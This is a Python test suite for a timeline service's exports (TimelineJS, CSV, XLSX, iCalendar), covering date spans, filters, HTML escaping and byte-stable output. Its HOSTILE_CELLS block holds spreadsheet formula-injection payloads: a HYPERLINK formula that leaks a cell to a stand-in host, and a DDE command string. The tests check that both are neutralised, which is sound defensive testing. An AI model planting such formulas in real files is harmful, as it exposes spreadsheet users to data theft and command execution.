"""The exports: TimelineJS, CSV and iCalendar, each under the timeline's filters."""

import csv
import io
import time
import zipfile
from datetime import date, timedelta
from html.parser import HTMLParser

import marshmallow as ma
import openpyxl
import pytest
from click.testing import CliRunner
from icalendar import Calendar
from markupsafe import escape
from marshmallow import validate

from schemas.event import EventRecordSchema
from schemas.resources import SCHEMAS
from service.app import create_app
from service.cli import main
from service.core.display_dates import human_date
from service.formats import registry
from service.formats.csv_format import COLUMNS, restored
from service.formats.timelinejs_format import PLACEHOLDER_ID, event_slide
from service.formats.xlsx_format import XLSX_MEDIA_TYPE
from tests.helpers import ids, problem_of

EXPORTS = tuple(f"/exports/{export.file_name}" for export in registry.EXPORTS)


def events_of(client, query: str = "") -> list[dict]:
    return client.get(f"/events?limit=100&{query}").get_json()["items"]


def vevents(response) -> list:
    assert response.status_code == 200 and response.mimetype == "text/calendar"
    return Calendar.from_ical(response.get_data()).walk("VEVENT")


# TimelineJS


def test_timelinejs_has_a_title_slide_and_one_slide_per_event_in_order(client):
    document = client.get("/exports/timelinejs.json").get_json()
    assert document["title"]["text"]["headline"]
    assert "AsiaNews" in document["title"]["text"]["text"]
    assert [s["unique_id"] for s in document["events"]] == ids(client.get("/events?limit=100"))
    assert document["scale"] == "human"


def test_timelinejs_slides_run_over_the_whole_days_of_each_event(client):
    slides = client.get("/exports/timelinejs.json").get_json()["events"]
    for event, slide in zip(events_of(client), slides, strict=True):
        assert slide["start_date"] == day_object(event["start"])
        if event["end"] == event["start"]:
            assert "end_date" not in slide
        else:
            assert slide["end_date"] == day_object(event["end"])
        assert slide["display_date"] == human_date(event["date"])


@pytest.mark.parametrize(
    ("event_id", "start", "end", "display_date"),
    [
        ("pelosi-visits-taiwan-2022", "2022-01-01", "2022-12-31", "2022 (uncertain)"),
        ("mayorkas-wang-vienna-meeting-2024", "2024-02-01", "2024-02-29", "February 2024"),
        (
            "yellen-second-china-visit-2024",
            "2024-01-09",
            "2024-04-08",
            "9 January 2024 (uncertain) – 8 April 2024",
        ),
        ("ice-repatriations-fiscal-2023", "2022-10-01", "2023-09-30", None),
        ("playa-vicente-bodies-found-2024", "2024-03-25", None, "about 25 March 2024"),
    ],
)
def test_timelinejs_years_months_and_ranges_are_spans_not_points(
    client, event_id, start, end, display_date
):
    slide = next(
        slide
        for slide in client.get("/exports/timelinejs.json").get_json()["events"]
        if slide["unique_id"] == event_id
    )
    assert slide["start_date"] == day_object(start)
    assert slide.get("end_date") == (day_object(end) if end else None)
    if display_date:
        assert slide["display_date"] == display_date


@pytest.mark.parametrize(
    ("query", "day"),
    [
        ("q=nothing-matches-this", "2024-04-08"),
        ("from=2030-05&q=nothing-matches-this", "2030-05-01"),
        ("to=1990&tag=deaths", "1990-12-31"),
    ],
)
def test_timelinejs_without_events_is_one_placeholder_slide_saying_so(client, query, day):
    response = client.get(f"/exports/timelinejs.json?{query}")
    assert response.status_code == 200
    document = response.get_json()
    (slide,) = document["events"]
    assert slide["unique_id"] == PLACEHOLDER_ID
    assert slide["start_date"] == day_object(day) and "end_date" not in slide
    assert "No events match" in slide["text"]["headline"]
    assert "No events match" in document["title"]["text"]["text"]


def test_timelinejs_groups_by_the_label_of_the_first_tag(client):
    labels = {t["id"]: t["label"] for t in client.get("/tags").get_json()["items"]}
    slides = client.get("/exports/timelinejs.json").get_json()["events"]
    for event, slide in zip(events_of(client), slides, strict=True):
        assert slide["group"] == str(escape(str(escape(labels[event["tags"][0]]))))


def test_timelinejs_text_is_escaped_html(client):
    event = events_of(client, "tag=deaths")[0]
    slide = event_slide({**event, "title": "<b>bold</b> & co", "summary": "1 < 2"}, {})
    assert slide["text"]["headline"] == "&lt;b&gt;bold&lt;/b&gt; &amp; co"
    assert slide["text"]["text"].startswith("<p>1 &lt; 2</p>")


MARKUP = "<i>&amp;\"'</i>"
TIMELINEJS_TAGS = {"p", "ul", "li", "strong", "em"}
STRIPPED_BY_TIMELINEJS = ("group", "display_date")


def test_markup_in_every_editable_text_field_is_escaped_in_every_timelinejs_string(client, auth):
    """TimelineJS inserts headline and text as HTML, and group and display_date as HTML
    after taking the text out of them: no string may carry markup other than our own."""
    fields_written = write_markup_into_every_text_field(client, auth)
    assert len(fields_written) >= 15, fields_written
    document = client.get("/exports/timelinejs.json").get_json()
    strings = list(strings_in(document))
    for path, value in strings:
        assert markup_in(value) <= TIMELINEJS_TAGS, (path, value)
        if path[-1] in STRIPPED_BY_TIMELINEJS:
            assert markup_in(text_content(value)) == set(), (path, value)
    shown_once = str(escape(MARKUP))
    for field in ("title", "summary", "unit", "counted", "name", "publisher", "author"):
        assert any(shown_once in value for path, value in strings if path[-1] == "text"), field
    assert str(escape(shown_once)) in [value for path, value in strings if path[-1] == "group"]


def write_markup_into_every_text_field(client, auth) -> list[str]:
    """PATCH MARKUP into every free-text field of every event, actor, place, tag and source."""
    written = []
    for kind, schema in TEXT_SCHEMAS.items():
        fields = free_text_fields(schema)
        for item in client.get(f"/{kind}?limit=100").get_json()["items"]:
            patch = dict.fromkeys(fields, MARKUP)
            if kind == "events":
                patch["figures"] = [{"value": 1, "unit": MARKUP, "counted": MARKUP}]
            response = client.patch(
                f"/{kind}/{item['id']}",
                json=patch,
                headers={**auth, "Content-Type": "application/merge-patch+json"},
            )
            assert response.status_code == 200, response.get_json()
        written += [f"{kind}.{field}" for field in fields]
    return [*written, "events.figures.unit", "events.figures.counted"]


TEXT_SCHEMAS = {
    "events": EventRecordSchema,
    **{table: schemas.record for table, schemas in SCHEMAS.items()},
}
NOT_FREE_TEXT = {"date"}  # an EDTF date, checked by its grammar
RESTRICTED = (validate.OneOf, validate.Regexp)


def free_text_fields(schema) -> list[str]:
    """The fields of ``schema`` that take any text: strings with no pattern or choice."""
    return [
        name
        for name, field in schema().fields.items()
        if isinstance(field, ma.fields.String)
        and name not in NOT_FREE_TEXT
        and not any(
            isinstance(rule, (validate.OneOf, validate.Regexp)) for rule in field.validators
        )
    ]


def strings_in(value, path=()):
    """Every string in a JSON value, with the path of keys and indexes that leads to it."""
    if isinstance(value, str):
        yield path, value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from strings_in(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from strings_in(item, (*path, index))


class _Markup(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.text = set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)

    def handle_data(self, data):
        self.text.append(data)


def _parsed(html: str) -> _Markup:
    parser = _Markup()
    parser.feed(html)
    parser.close()
    return parser


def markup_in(html: str) -> set[str]:
    """The elements a browser would make of ``html``."""
    return _parsed(html).tags


def text_content(html: str) -> str:
    """What TimelineJS keeps of a field it strips: the text a browser would make of it."""
    return "".join(_parsed(html).text)


def day_object(day: str) -> dict[str, int]:
    parsed = date.fromisoformat(day)
    return {"year": parsed.year, "month": parsed.month, "day": parsed.day}


# CSV


def test_csv_over_http_is_what_the_command_exports(client, db_path, tmp_path):
    response = client.get("/exports/events.csv")
    assert response.mimetype == "text/csv" and response.mimetype_params["charset"] == "utf-8"
    assert "attachment" in response.headers["Content-Disposition"]
    exported = tmp_path / "exported.csv"
    CliRunner().invoke(main, ["export", str(exported), "--db", str(db_path)])
    assert response.get_data() == exported.read_bytes()


def test_filtered_csv_reimports_with_timeline_load(client, tmp_path):
    wanted = ids(client.get("/events?tag=repatriation&limit=100"))
    csv_file = tmp_path / "repatriation.csv"
    csv_file.write_bytes(client.get("/exports/events.csv?tag=repatriation").get_data())
    other_db = tmp_path / "other.db"
    result = CliRunner().invoke(main, ["load", str(csv_file), "--db", str(other_db)])
    assert result.exit_code == 0, result.output
    reloaded = create_app({"TESTING": True, "TIMELINE_DB": str(other_db)}).test_client()
    assert ids(reloaded.get("/events?limit=100")) == wanted
    for event_id in wanted:
        assert (
            reloaded.get(f"/events/{event_id}").get_json()
            == client.get(f"/events/{event_id}").get_json()
        )


HOSTILE_CELLS = {
    "title": '=HYPERLINK("http://example.invalid?leak="&A1, "Click")',
    "summary": "+1+cmd|' /C calc'!A0",
    "resolved_from": "'already quoted",
}


def create_hostile_event(client, auth) -> dict:
    event = {
        "id": "formula-in-every-cell-2024",
        "date": "2024-04",
        "source": "asianews-2024-us-china-repatriation",
        "tags": ["economy"],
        **HOSTILE_CELLS,
    }
    response = client.post("/events", json=event, headers=auth)
    assert response.status_code == 201, response.get_json()
    return response.get_json()


def test_csv_neutralises_formulas_and_export_load_export_is_the_same_bytes(client, auth, tmp_path):
    create_hostile_event(client, auth)
    exported = client.get("/exports/events.csv").get_data()
    rows = list(csv.DictReader(io.StringIO(exported.decode())))
    hostile = next(row for row in rows if row["id"] == "formula-in-every-cell-2024")
    assert {column: hostile[column] for column in HOSTILE_CELLS} == {
        column: f"'{value}" for column, value in HOSTILE_CELLS.items()
    }
    csv_file, other_db, again = tmp_path / "in.csv", tmp_path / "other.db", tmp_path / "out.csv"
    csv_file.write_bytes(exported)
    loaded = CliRunner().invoke(main, ["load", str(csv_file), "--db", str(other_db)])
    assert loaded.exit_code == 0, loaded.output
    CliRunner().invoke(main, ["export", str(again), "--db", str(other_db)])
    assert again.read_bytes() == exported


# XLSX


def workbook_of(response):
    assert response.status_code == 200
    assert response.mimetype == XLSX_MEDIA_TYPE
    assert "attachment" in response.headers["Content-Disposition"]
    return openpyxl.load_workbook(io.BytesIO(response.get_data()))


def test_xlsx_holds_the_csv_columns_and_rows_with_dates_as_dates(client):
    sheet = workbook_of(client.get("/exports/events.xlsx")).active
    header, *rows = sheet.iter_rows()
    assert tuple(cell.value for cell in header) == COLUMNS
    csv_rows = list(csv.reader(io.StringIO(client.get("/exports/events.csv").get_data(True))))[1:]
    assert len(rows) == len(csv_rows) == len(events_of(client))
    for cells, csv_cells in zip(rows, csv_rows, strict=True):
        for column, cell, csv_cell in zip(COLUMNS, cells, csv_cells, strict=True):
            if column in ("start", "end"):
                assert cell.is_date and cell.number_format == "yyyy-mm-dd"
                assert cell.value.date() == date.fromisoformat(csv_cell)
            elif csv_cell:
                assert (cell.value, cell.data_type) == (restored(csv_cell), "s"), column
            else:
                assert cell.value is None, column


def test_xlsx_keeps_dates_of_years_and_months_as_text(client):
    sheet = workbook_of(client.get("/exports/events.xlsx")).active
    dates = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert (dates["pelosi-visits-taiwan-2022"].value, dates["two-sessions-2024"].value) == (
        "2022?",
        "2024-03",
    )
    assert {cell.data_type for cell in dates.values()} == {"s"}


def test_xlsx_shows_formulas_as_text_and_never_runs_them(client, auth):
    create_hostile_event(client, auth)
    response = client.get("/exports/events.xlsx")
    sheet = workbook_of(response).active
    row = next(row for row in sheet.iter_rows() if row[0].value == "formula-in-every-cell-2024")
    cells = {column: cell for column, cell in zip(COLUMNS, row, strict=True)}
    for column, value in HOSTILE_CELLS.items():
        assert (cells[column].value, cells[column].data_type) == (value, "s")
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_xlsx_is_the_same_bytes_every_time(client):
    first = client.get("/exports/events.xlsx?tag=economy").get_data()
    time.sleep(1.1)  # the zip format stores times to two seconds: cross a boundary
    assert create_app_client(client).get("/exports/events.xlsx?tag=economy").get_data() == first


def create_app_client(client):
    """A second app on the same database, so the answer is built again, not replayed."""
    return create_app(
        {"TESTING": True, "TIMELINE_DB": client.application.config["TIMELINE_DB"]}
    ).test_client()


# iCalendar


def test_every_event_is_an_all_day_event_with_an_exclusive_end(client):
    events = events_of(client)
    calendar_events = vevents(client.get("/exports/events.ics"))
    assert len(calendar_events) == len(events)
    for event, vevent in zip(events, calendar_events, strict=True):
        start, end = vevent.decoded("DTSTART"), vevent.decoded("DTEND")
        assert type(start) is date and type(end) is date
        assert start == date.fromisoformat(event["start"])
        assert end == date.fromisoformat(event["end"]) + timedelta(days=1)
        assert str(vevent["SUMMARY"]) == event["title"]
        assert str(vevent["URL"]).endswith(f"/events/{event['id']}")
    assert len({str(v["UID"]) for v in calendar_events}) == len(events)


@pytest.mark.parametrize(
    ("event_id", "dtstart", "dtend"),
    [
        ("pelosi-visits-taiwan-2022", "20220101", "20230101"),
        ("mayorkas-wang-vienna-meeting-2024", "20240201", "20240301"),
        ("mayorkas-says-repatriation-under-discussion-2024", "20240406", "20240407"),
        ("ice-repatriations-fiscal-2023", "20221001", "20231001"),
    ],
)
def test_all_day_events_cover_the_year_month_or_days_of_the_date(client, event_id, dtstart, dtend):
    text = client.get("/exports/events.ics").get_data(as_text=True)
    uid = text.index(f"UID:{event_id}@")
    block = text[text.rindex("BEGIN:VEVENT", 0, uid) : text.index("END:VEVENT", uid)]
    assert f"\r\nDTSTART;VALUE=DATE:{dtstart}\r\n" in block
    assert f"\r\nDTEND;VALUE=DATE:{dtend}\r\n" in block


def test_the_calendar_is_the_same_bytes_every_time(client):
    first = client.get("/exports/events.ics")
    assert client.get("/exports/events.ics").get_data() == first.get_data()
    assert client.get("/exports/events.ics").headers["ETag"] == first.headers["ETag"]


# Every export


def export_text(response) -> str:
    """An export's text: the workbook's cells, row by row, or the file itself."""
    if response.mimetype == XLSX_MEDIA_TYPE:
        sheet = workbook_of(response).active
        return "\n".join(",".join(str(cell.value) for cell in row) for row in sheet.iter_rows())
    return response.get_data(as_text=True)


@pytest.mark.parametrize("path", EXPORTS)
def test_exports_apply_the_timeline_filters_and_order(client, path):
    narrowed = export_text(client.get(f"{path}?tag=economy&sort=-date"))
    everything = export_text(client.get(path))
    economy = ids(client.get("/events?tag=economy&sort=-date"))
    positions = [narrowed.index(event_id) for event_id in economy]
    assert positions == sorted(positions)
    others = set(ids(client.get("/events?limit=100"))) - set(economy)
    assert not [event_id for event_id in others if event_id in narrowed]
    assert all(event_id in everything for event_id in others)


@pytest.mark.parametrize("path", EXPORTS)
def test_exports_widen_approximate_dates_like_the_timeline(client, path):
    query = "from=2024-03-24&to=2024-03-24&fuzzy=true"
    assert "playa-vicente-bodies-found-2024" in ids(client.get(f"/events?{query}"))
    assert "playa-vicente-bodies-found-2024" in export_text(client.get(f"{path}?{query}"))
    exact = export_text(client.get(f"{path}?from=2024-03-24&to=2024-03-24"))
    assert "playa-vicente-bodies-found-2024" not in exact


@pytest.mark.parametrize("path", EXPORTS)
@pytest.mark.parametrize(("query", "parameter"), [("limit=5", "limit"), ("from=2024-13", "from")])
def test_exports_refuse_paging_and_bad_filters(client, path, query, parameter):
    problem = problem_of(client.get(f"{path}?{query}"), 400)
    assert problem["errors"][0]["parameter"] == parameter
